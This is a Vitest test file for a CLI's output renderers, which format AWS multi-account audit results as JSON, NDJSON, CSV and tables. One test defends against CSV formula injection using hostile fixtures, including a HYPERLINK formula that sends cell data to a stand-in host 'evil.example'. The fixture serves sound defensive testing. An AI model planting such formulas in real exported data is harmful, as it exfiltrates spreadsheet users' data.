import { describe, expect, it } from "vitest";
import { palette, useColor } from "../../src/cli/output/color.js";
import { renderList } from "../../src/cli/output/render-list.js";
import { csvField, renderCsv, renderJson, renderNdjsonLine, renderTable } from "../../src/cli/output/render.js";
import type { TargetRecord, ValueView } from "../../src/cli/output/records.js";
import { FleetError } from "../../src/errors.js";

const view: ValueView<number> = {
  columns: ["Option groups"],
  cells: (n) => [String(n)],
  fields: (n) => ({ optionGroups: n }),
  fieldNames: ["optionGroups"],
  amount: (n) => n,
};

const denied = Object.assign(new Error("User is not authorized to perform: sts:AssumeRole"), { name: "AccessDenied" });
const records: TargetRecord<number>[] = [
  { accountId: "111111111111", region: "us-east-1", roleArn: "arn:aws:iam::111111111111:role/Audit", ok: true, value: 3, ms: 12 },
  { accountId: "111111111111", region: "us-west-1", roleArn: "arn:aws:iam::111111111111:role/Audit", ok: true, value: 0, ms: 9 },
  {
    accountId: "222222222222", region: "us-east-1", roleArn: "arn:aws:iam::222222222222:role/Audit", ok: false, stage: "assume-role", ms: 5,
    error: new FleetError("ERR_ASSUME_ROLE", "Cannot assume \"arn:aws:iam::222222222222:role/Audit\", \"quoted\", twice\nsecond line", { cause: denied }),
  },
];
const ESC = new RegExp(String.fromCharCode(27) + "\\[");

describe("render", () => {
  it("json is the documented document, without timings", () => {
    expect(JSON.parse(renderJson(records, view))).toEqual({
      targets: [
        { accountId: "111111111111", region: "us-east-1", roleArn: "arn:aws:iam::111111111111:role/Audit", ok: true, optionGroups: 3 },
        { accountId: "111111111111", region: "us-west-1", roleArn: "arn:aws:iam::111111111111:role/Audit", ok: true, optionGroups: 0 },
        {
          accountId: "222222222222", region: "us-east-1", roleArn: "arn:aws:iam::222222222222:role/Audit", ok: false, stage: "assume-role",
          error: { code: "ERR_ASSUME_ROLE", message: "Cannot assume \"arn:aws:iam::222222222222:role/Audit\", \"quoted\", twice", kind: "unknown", retryable: false, awsCode: "AccessDenied" },
        },
      ],
      total: 3,
      failed: 1,
    });
  });

  it("ndjson is one JSON record per line", () => {
    const line = renderNdjsonLine(records[0]!, view);
    expect(line.endsWith("\n")).toBe(true);
    expect(line.slice(0, -1)).not.toContain("\n");
    expect(JSON.parse(line)).toEqual({ accountId: "111111111111", region: "us-east-1", roleArn: "arn:aws:iam::111111111111:role/Audit", ok: true, optionGroups: 3 });
  });

  it("csv is RFC 4180: CRLF, quoted fields with doubled quotes", () => {
    const csv = renderCsv(records, view);
    const lines = csv.split("\r\n");
    expect(lines).toHaveLength(5);
    expect(lines[0]).toBe("accountId,region,roleArn,ok,optionGroups,stage,errorCode,errorMessage,errorKind,retryable,httpStatus,awsCode,attempts");
    expect(lines[1]).toBe("111111111111,us-east-1,arn:aws:iam::111111111111:role/Audit,true,3,,,,,,,,");
    expect(lines[3]).toBe("222222222222,us-east-1,arn:aws:iam::222222222222:role/Audit,false,,assume-role,ERR_ASSUME_ROLE,"
      + "\"Cannot assume \"\"arn:aws:iam::222222222222:role/Audit\"\", \"\"quoted\"\", twice\",unknown,false,,AccessDenied,");
    expect(lines[4]).toBe("");
    expect(csvField("a\nb")).toBe("\"a\nb\"");
    expect(csvField({ a: 1 })).toBe("\"{\"\"a\"\":1}\"");
  });

  it("csv neutralises formulas (OWASP CSV injection): a text cell starting with = + - @ tab or CR gets a leading ', numbers stay numbers", () => {
    const named: TargetRecord<number>[] = [
      { accountId: "111111111111", accountName: '=HYPERLINK("http://evil.example/?x="&A1,"click")', region: "us-east-1", ok: true, value: -3 },
      { accountId: "111111111112", accountName: "+1", region: "us-east-1", ok: true, value: 0 },
      { accountId: "111111111113", accountName: "-2+3", region: "us-east-1", ok: true, value: 1 },
      { accountId: "111111111114", accountName: "@SUM(1,2)", region: "us-east-1", ok: true, value: 1 },
      { accountId: "111111111115", accountName: "\t=1", region: "us-east-1", ok: true, value: 1 },
      { accountId: "111111111116", accountName: "\r=1", region: "us-east-1", ok: true, value: 1 },
      { accountId: "111111111117", accountName: "a=b", region: "us-east-1", ok: true, value: 1 },
    ];
    const rows = renderCsv(named, { ...view, fields: (n) => ({ optionGroups: n }) }).split("\r\n").slice(1, -1);
    // accountName is not a csv column of fan-out records; the list renderer (accounts) prints it.
    expect(rows[0]).toBe("111111111111,us-east-1,,true,-3,,,,,,,,");
    const list = renderList("accounts", named.map((r) => ({ accountId: r.accountId, name: r.accountName })), [{ key: "accountId", title: "Account" }, { key: "name", title: "Name" }], "csv", palette(false));
    expect(list.split("\r\n").slice(1, -1)).toEqual([
      '111111111111,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
      "111111111112,'+1",
      "111111111113,'-2+3",
      "111111111114,\"'@SUM(1,2)\"",
      "111111111115,'\t=1",
      "111111111116,\"'\r=1\"",
      "111111111117,a=b",
    ]);
    expect([csvField(-5), csvField(1.5), csvField("-5"), csvField(true)]).toEqual(["-5", "1.5", "'-5", "true"]);
  });

  it("table shows each target, the failure's stage and codes, and the totals", () => {
    const table = renderTable(records, view, palette(false));
    expect(table).not.toMatch(ESC);
    const rows = table.split("\n").filter((l) => l.startsWith("│")).map((l) => l.split("│").map((c) => c.trim()).filter(Boolean));
    expect(rows).toEqual([
      ["Account", "Region", "Role", "Option groups", "Status"],
      ["111111111111", "us-east-1", "Audit", "3", "ok"],
      ["111111111111", "us-west-1", "Audit", "0", "ok"],
      ["222222222222", "us-east-1", "Audit", "-", "assume-role ERR_ASSUME_ROLE (AccessDenied)"],
      ["Total", "3", "2 ok, 1 failed"],
    ]);
  });

  it("table leaves out the role column when no target has a role", () => {
    const table = renderTable([{ accountId: "111111111111", region: "us-east-1", ok: true, value: 2 }], view, palette(false));
    expect(table).not.toContain("Role");
  });

  it("colour only on a TTY without NO_COLOR", () => {
    expect(useColor({ write: () => true, isTTY: true }, {})).toBe(true);
    expect(useColor({ write: () => true, isTTY: true }, { NO_COLOR: "1" })).toBe(false);
    expect(useColor({ write: () => true, isTTY: true }, { NO_COLOR: "" })).toBe(true);
    expect(useColor({ write: () => true }, {})).toBe(false);
    expect(renderTable(records, view, palette(true))).toMatch(ESC);
  });
});
